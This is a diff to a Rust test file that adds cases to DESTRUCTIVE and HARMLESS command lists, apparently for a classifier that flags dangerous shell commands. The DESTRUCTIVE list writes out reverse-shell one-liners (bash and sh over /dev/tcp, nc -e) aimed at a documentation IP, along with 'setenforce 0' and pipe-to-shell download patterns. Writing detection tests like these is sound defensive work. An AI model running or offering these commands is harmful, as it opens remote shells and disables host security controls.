@@ -64,6 +64,11 @@ const DESTRUCTIVE: &[&str] = &[
     "curl x.gz | gunzip | sh",
     "curl x | base64 -d | bash",
     "base64 -d x.b64 | sh",
+    "setenforce 0",
+    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+    "sh -i 5<> /dev/tcp/203.0.113.5/4444",
+    "nc -e /bin/sh 203.0.113.5 4444",
+    "nc -nv 203.0.113.5 4444 -e /bin/bash",
 ];
 
 #[test]
@@ -76,6 +81,10 @@ const HARMLESS: &[&str] = &[
     "find . -name \"*.log\" -exec rm {} +",
     "service nginx stop",
     "service ssh status",
+    "setenforce 1",
+    "echo > /dev/tcp/localhost/5432",
+    "nc -l 8080 < index.html",
+    "nc -zv db.corp.io 5432",
     "curl -o i.tgz https://x.io/i.tgz; bash build.sh",
     "sh a.sh; wget https://x.io/a.sh",
     "dd if=/dev/zero of=/tmp/x",
